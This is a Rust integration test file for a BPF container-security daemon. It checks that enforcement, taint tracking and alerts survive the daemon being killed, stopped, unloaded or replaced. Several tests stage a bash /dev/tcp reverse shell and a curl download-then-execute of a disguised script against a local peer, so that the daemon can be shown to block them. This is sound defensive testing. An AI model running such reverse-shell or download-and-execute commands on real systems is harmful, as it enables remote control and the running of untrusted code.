//! The daemon goes, and what it has set up stays: enforcement, taint, and the record of what happened
//! meanwhile.

use crate::container::{Container, Group};
use crate::daemon::{ALERT_WAIT, Daemon, Pins, Settings, outcome, program, run_once};
use crate::faults::{attack_works, attack_works_at_last, await_unloaded, programs_of};
use crate::lab::Peer;
use anyhow::{Context, Result, bail, ensure};
use monitor::container::hierarchy;
use monitor::kernel::loader::{Kernel, Options, Origin};
use monitor::kernel::object;
use monitor::kernel::pins::Unlocked;
use monitor_common::policy::Policy;
use monitor_common::state::Config;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

/// Beyond `heartbeat_limit_s` of the tests' configuration.
const RELEASED: Duration = Duration::from_millis(4500);

/// Folders of ours start so; the maker's pid follows.
const PREFIX: &str = "bulkhead-pins-";

/// Unmounts what an earlier run of these tests left behind because it was killed, and with it detaches
/// what is pinned there.
pub fn sweep() -> Result<()> {
    for line in fs::read_to_string("/proc/self/mountinfo")?.lines().filter(|line| line.contains(" - bpf ")) {
        let Some(point) = line.split(' ').nth(4).map(Path::new) else { continue };
        let folder = point.parent().unwrap_or(point);
        let name = folder.file_name().unwrap_or_default().to_string_lossy().into_owned();
        let maker = name.strip_prefix(PREFIX).and_then(|rest| rest.split('-').next());
        if maker.is_some_and(|pid| !Path::new("/proc").join(pid).exists()) {
            rustix::mount::unmount(point, rustix::mount::UnmountFlags::DETACH)?;
            fs::remove_dir_all(folder)?;
        }
    }
    Ok(())
}

/// A BPF file system of the test's own. With its mount everything goes that is still pinned in it.
pub struct Bpffs {
    folder: tempfile::TempDir,
}

impl Bpffs {
    /// Mounts it.
    pub fn mount() -> Result<Self> {
        let name = format!("{PREFIX}{}-", std::process::id());
        let stage = Self { folder: tempfile::Builder::new().prefix(&name).tempdir()? };
        fs::create_dir(stage.root())?;
        let flags = rustix::mount::MountFlags::empty();
        rustix::mount::mount("bpf", stage.root(), "bpf", flags, None).context("mount a BPF file system")?;
        Ok(stage)
    }

    /// Everything of the test: the mount, the control socket, the file of all events.
    pub fn folder(&self) -> &Path {
        self.folder.path()
    }

    fn root(&self) -> PathBuf {
        self.folder.path().join("bpf")
    }

    /// Settings of a daemon that pins here.
    pub fn pins(&self, on_exit: &'static str) -> Pins {
        let socket = Some(self.folder.path().join("control.sock"));
        Pins { root: self.root().join("pins"), on_exit, events: self.events(), socket }
    }

    /// The file of all events.
    pub fn events(&self) -> PathBuf {
        self.folder.path().join("events.jsonl")
    }

    /// Is nothing pinned?
    pub fn is_empty(&self) -> Result<bool> {
        // The kernel itself puts iterators there.
        Ok(!fs::read_dir(self.root())?.flatten().any(|entry| entry.file_name() == "pins"))
    }
}

impl Drop for Bpffs {
    fn drop(&mut self) {
        if let Err(error) = rustix::mount::unmount(self.root(), rustix::mount::UnmountFlags::DETACH) {
            eprintln!("{} stays mounted: {error}", self.root().display());
        }
    }
}

/// A group, pins, and a container that a daemon in `protect` has seen.
struct Stage {
    // Dropped in this order.
    daemon: Daemon,
    container: Container,
    group: Group,
    settings: Settings,
    pins: Bpffs,
}

fn stage(mode: &'static str, on_exit: &'static str) -> Result<Stage> {
    let (group, pins) = (Group::make()?, Bpffs::mount()?);
    let settings = Settings { pins: Some(pins.pins(on_exit)), ..Settings::mode(mode) };
    let daemon = Daemon::start(&group, &settings)?;
    let container = Container::start(&group)?;
    Ok(Stage { daemon, container, group, settings, pins })
}

impl Stage {
    /// Another daemon on the same pins; the one before has ended or is to hand over.
    fn successor(&self) -> Result<Daemon> {
        Daemon::start(&self.group, &self.settings)
    }

    fn started(daemon: &Daemon) -> Result<String> {
        let row = daemon.await_row("started notice", ALERT_WAIT, |row| row["event"]["action"] == "started")?;
        Ok(row["message"].as_str().unwrap_or_default().to_owned())
    }
}

/// Not one byte of a reverse shell gets out between `kill -9` and the next start, and the next daemon
/// tells of it.
pub fn killed_daemon_leaves_enforcement() -> Result<()> {
    let mut stage = stage("protect", "keep")?;
    stage.daemon.kill_9()?;
    let peer = Peer::shell(stage.container.listen()?, "touch /tmp/effect\nexit\n", Duration::from_secs(3))?;
    stage.container.run(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
    ensure!(!stage.container.path("/tmp/effect").exists(), "the attacker's command ran");
    ensure!(peer.received() == 0, "the attacker received {} bytes", peer.received());
    let next = stage.successor()?;
    let said = Stage::started(&next)?;
    ensure!(said.contains("attached all the time"), "not taken over: {said}");
    let alert = next.await_alert("reverse_shell", stage.container.id()).context("of the time between")?;
    ensure!(outcome(&alert) == "killed", "outcome {}", outcome(&alert));
    ensure!(!attack_works(&stage.container)?, "not enforced after the restart");
    Ok(())
}

/// A container that was made while no daemon ran is one like any other to the next, which finds it and is told of it.
pub fn container_made_meanwhile_is_held() -> Result<()> {
    let mut stage = stage("protect", "keep")?;
    stage.daemon.kill_9()?;
    let made = Container::start(&stage.group)?;
    let next = stage.successor()?;
    // By then it has read what it was told meanwhile.
    std::thread::sleep(crate::pace::wait(Duration::from_secs(1)));
    ensure!(!attack_works(&made)?, "it is not held");
    next.await_alert("reverse_shell", made.id()).map(drop)
}

/// What was downloaded under one daemon is a download to the next, and in the time between.
pub fn taint_survives_a_killed_daemon() -> Result<()> {
    let mut stage = stage("protect", "keep")?;
    let peer = Peer::web(stage.container.listen()?, "#!/bin/sh\ntouch /tmp/ran\n")?;
    stage.container.run(&format!("curl -s -o /tmp/logo3.jpg http://127.0.0.1:{}/x", peer.port))?;
    let text = fs::read_to_string(stage.container.path("/tmp/logo3.jpg")).context("the download did not work")?;
    ensure!(text.contains("touch"), "the download did not work");
    stage.daemon.kill_9()?;
    stage.container.run("bash /tmp/logo3.jpg")?;
    ensure!(!stage.container.path("/tmp/ran").exists(), "it ran while no daemon did");
    let next = stage.successor()?;
    stage.container.run("sh /tmp/logo3.jpg")?;
    ensure!(!stage.container.path("/tmp/ran").exists(), "it ran after the restart");
    next.await_alerts("download_exec", stage.container.id(), 2)
}

/// With `keep` an orderly end changes nothing either.
pub fn stopped_daemon_leaves_enforcement_with_keep() -> Result<()> {
    let mut stage = stage("protect", "keep")?;
    let status = stage.daemon.stop()?;
    ensure!(status.code() == Some(0), "ended with {status}:\n{}", stage.daemon.log());
    ensure!(!attack_works(&stage.container)?, "the end of the daemon opened the door");
    let next = stage.successor()?;
    next.await_alert("reverse_shell", stage.container.id())?;
    std::thread::sleep(Duration::from_millis(2500));
    let status = next.status()?;
    ensure!(status["events_lost"] == 0, "an orderly end lost {}", status["events_lost"]);
    Ok(())
}

/// With `release` a dead daemon's enforcement ends once its heartbeat is too old, and a new daemon's
/// begins with the same programs.
pub fn killed_daemon_releases_after_the_limit() -> Result<()> {
    let mut stage = stage("protect", "release")?;
    ensure!(!attack_works(&stage.container)?, "not enforced by the living daemon");
    stage.daemon.kill_9()?;
    std::thread::sleep(RELEASED);
    ensure!(attack_works_at_last(&stage.container)?, "the dead daemon's programs still enforce");
    let next = stage.successor()?;
    let said = Stage::started(&next)?;
    ensure!(said.contains("attached all the time"), "not taken over: {said}");
    ensure!(!attack_works(&stage.container)?, "the new daemon does not enforce");
    Ok(())
}

fn unload(config: &Path) -> Result<(Option<i32>, String)> {
    let output = Command::new(program()?).args(["unload", "--config"]).arg(config).output()?;
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    Ok((output.status.code(), text(&output.stdout) + &text(&output.stderr)))
}

/// It refuses while a daemon runs, removes what a dead one has left, and has nothing to do twice.
pub fn unload_removes_everything() -> Result<()> {
    let mut stage = stage("protect", "keep")?;
    let config = stage.pins.folder.path().join("unload.toml");
    fs::write(&config, stage.daemon.config(&stage.settings))?;
    let ours = programs_of(stage.daemon.pid())?;
    ensure!(ours.len() >= 5, "the running daemon holds {} programs", ours.len());
    let (code, said) = unload(&config)?;
    ensure!(code == Some(1) && said.contains("stop it first"), "beside a daemon: {code:?}, {said}");
    ensure!(!attack_works(&stage.container)?, "a refused unload took something away");
    stage.daemon.kill_9()?;
    let (code, said) = unload(&config)?;
    ensure!(code == Some(0) && said.contains("links"), "{code:?}, {said}");
    await_unloaded(&ours)?;
    ensure!(stage.pins.is_empty()?, "something is still pinned");
    ensure!(attack_works_at_last(&stage.container)?, "something still enforces");
    let (code, said) = unload(&config)?;
    ensure!(code == Some(0) && said.contains("nothing"), "the second time: {code:?}, {said}");
    Ok(())
}

/// An upgrade asks the running daemon to go; a daemon that cannot be asked is left alone.
pub fn second_daemon_takes_over_or_says_why_not() -> Result<()> {
    let mut stage = stage("protect", "release")?;
    let deaf = Pins { socket: Some(stage.pins.folder.path().join("other.sock")), ..stage.pins.pins("release") };
    let text = stage.daemon.config(&Settings { pins: Some(deaf), ..Settings::mode("protect") });
    let config = stage.pins.folder.path().join("deaf.toml");
    fs::write(&config, text)?;
    let (status, said) = run_once(Command::new(program()?).args(["run", "--config"]).arg(&config))?;
    ensure!(status.code() == Some(1) && said.contains("does not hand over"), "ended with {status}: {said}");
    ensure!(!attack_works(&stage.container)?, "the first daemon has lost its grip");
    let next = stage.successor()?;
    let status = stage.daemon.await_end()?;
    ensure!(status.code() == Some(0), "the first ended with {status}:\n{}", stage.daemon.log());
    let said = Stage::started(&next)?;
    ensure!(said.contains("attached all the time"), "not taken over: {said}");
    ensure!(!attack_works(&stage.container)?, "the second daemon does not enforce");
    next.await_alert("reverse_shell", stage.container.id()).map(drop)
}

/// A finding about something that still runs is told by one daemon only.
pub fn findings_are_not_told_again() -> Result<()> {
    let mut stage = stage("monitor", "keep")?;
    let peer = Peer::shell(stage.container.listen()?, "echo hello\n", Duration::from_secs(60))?;
    let attack = format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port);
    let mut shell = stage.container.spawn(&attack)?;
    let told = stage.daemon.await_alert("reverse_shell", stage.container.id()).map(drop);
    stage.daemon.kill_9()?;
    let seen = stage.successor().map(|next| {
        std::thread::sleep(Duration::from_secs(2));
        next.alerts("reverse_shell", stage.container.id()).len()
    });
    let _ = shell.kill();
    let _ = shell.wait();
    told?;
    ensure!(seen? == 0, "the next daemon tells it again");
    Ok(())
}

/// Programs of another build replace the attached ones and go on with their maps; the same build is
/// taken over.
pub fn other_programs_keep_the_maps() -> Result<()> {
    let stage = Bpffs::mount()?;
    let root = stage.pins("keep").root;
    let watched = hierarchy::detect()?;
    let mountinfo = fs::read_to_string("/proc/self/mountinfo")?;
    let cgroup = hierarchy::unified(&mountinfo).context("no cgroup v2 mount")?;
    let load = |bytes: &[u8]| -> Result<(Kernel, Vec<String>)> {
        let pins = Unlocked::make(&root)?.lock(Duration::ZERO)?;
        let (kernel, _rings) = Kernel::load(&Options {
            object: bytes,
            hierarchy: watched.id,
            controller: &watched.controller,
            cgroup_root: &cgroup,
            config: Config::default(),
            avoid: &[],
            pins: Some(&pins),
        })?;
        Ok((kernel, pins.versions()))
    };
    let policy = Policy { root: 7, enforce: 0, flags: 0 };
    let (first, versions) = load(object::BYTES)?;
    ensure!(first.origin() == Origin::Fresh && versions.len() == 1, "{:?}, {versions:?}", first.origin());
    let (_, _, mut maps) = first.split();
    maps.set_policy(u64::MAX - 7, &policy);
    drop(maps);
    // A byte behind the last section changes nothing but the hash.
    let mut other = object::BYTES.to_vec();
    other.push(0);
    let (second, next) = load(&other)?;
    ensure!(matches!(second.origin(), Origin::Replaced { kept } if kept > 20), "{:?}", second.origin());
    ensure!(next.len() == 1 && next != versions, "versions {versions:?}, then {next:?}");
    let links = fs::read_dir(root.join(&next[0]).join("links"))?.count();
    let (_, _, maps) = second.split();
    ensure!(maps.policy(u64::MAX - 7) == Some(policy), "the map's content is lost");
    drop(maps);
    let (third, same) = load(&other)?;
    ensure!(third.origin() == Origin::Adopted && same == next, "{:?}, {same:?}", third.origin());
    drop(third);
    // One link gone: the set is not taken for whole.
    let Some(link) = fs::read_dir(root.join(&next[0]).join("links"))?.flatten().next() else { bail!("no links") };
    fs::remove_file(link.path())?;
    let (fourth, same) = load(&other)?;
    ensure!(matches!(fourth.origin(), Origin::Replaced { .. }) && same == next, "{:?}, {same:?}", fourth.origin());
    let again = fs::read_dir(root.join(&next[0]).join("links"))?.count();
    ensure!(again == links, "{again} links instead of {links}");
    Ok(())
}
